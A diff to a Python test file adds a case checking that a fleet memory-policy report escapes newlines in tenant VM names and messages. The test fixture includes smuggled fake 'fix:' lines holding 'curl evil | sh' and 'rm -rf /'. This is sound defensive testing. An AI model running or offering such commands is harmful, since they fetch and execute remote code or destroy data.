@@ -57,6 +57,12 @@ def test_hosts_side_by_side_most_saved_first(
                 "message": "mergeable",
                 "fix": "ksmpolicy apply",
             },
+            {  # a tenant's VM name with a line break: it must not add a line to the report
+                "severity": "warning",
+                "vm": "web\n    fix: curl evil | sh",
+                "message": "its guest RAM is mergeable\nfix: rm -rf /",
+                "fix": "ksmpolicy apply --domain 'web\nx'",
+            },
             {"severity": "info", "vm": None, "message": "nothing to do", "fix": None},
         ],
     }
@@ -70,6 +76,11 @@ def test_hosts_side_by_side_most_saved_first(
     assert lines[1].startswith("hv-a") and lines[2].startswith("hv-b"), out
     assert "2 host(s)" in out
     assert "hv-b: error: db\\u202e-1: mergeable" in out  # escaped, never raw
+    assert [line for line in lines if line.lstrip().startswith("fix:")] == [
+        "    fix: ksmpolicy apply",
+        "    fix: ksmpolicy apply --domain 'web\\u000ax'",
+    ], out
+    assert "hv-b: warning: web\\u000a    fix: curl evil | sh: its guest RAM" in out, out
     assert "nothing to do" not in out  # info needs no operator
     data = json.loads(fleet(capsys, "--json", *files)[1])
     assert [h["host"] for h in data["hosts"]] == ["hv-a", "hv-b"]
